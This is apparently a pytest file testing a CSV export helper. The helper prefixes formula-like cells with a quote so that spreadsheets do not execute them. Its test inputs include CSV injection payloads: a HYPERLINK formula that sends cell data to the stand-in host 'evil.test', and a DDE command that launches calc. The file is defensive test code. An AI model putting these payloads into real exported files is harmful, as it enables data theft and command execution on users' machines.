"""Cells of Rapport's CSV files: no formula runs in a spreadsheet, numbers stay numbers."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from shared.csv_cells import CsvWriter, csv_cell


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.test/?x="&A1,"click")',
        "+cmd@seller.test",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        "-3.5",  # text that looks like a number is still text (an account id, say)
    ],
)
def test_text_a_spreadsheet_would_run_gets_a_leading_quote(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["Acme GmbH", "joe@acme.example", "A-1", "a=b", "", "3 + 4"])
def test_ordinary_text_is_written_as_given(text):
    assert csv_cell(text) == text


def test_numbers_rapport_computed_stay_numbers_even_when_negative():
    assert csv_cell(-12.5) == "-12.5"
    assert csv_cell(-3) == "-3"
    assert csv_cell(83.33333) == "83.33"
    assert csv_cell(0.0) == "0"


def test_booleans_are_true_and_false_and_missing_is_empty():
    assert csv_cell(True) == "true"
    assert csv_cell(False) == "false"
    assert csv_cell(None) == ""


def test_the_writer_quotes_every_cell_and_a_csv_reader_reads_them_back():
    out = io.StringIO()
    writer = CsvWriter(out)
    writer.writerow(["=1+1", -12.5, False, None, 'say "hi", then\n=2+2'])
    (row,) = list(csv.reader(io.StringIO(out.getvalue())))
    assert row == ["'=1+1", "-12.5", "false", "", 'say "hi", then\n=2+2']


def test_every_csv_rapport_writes_goes_through_the_one_safe_writer():
    root = Path(__file__).resolve().parents[2]
    writers = [
        str(path.relative_to(root))
        for folder in ("services", "shared", "deploy")
        for path in (root / folder).rglob("*.py")
        if "csv.writer(" in path.read_text() or "csv.DictWriter(" in path.read_text()
    ]
    assert writers == ["shared/csv_cells.py"]
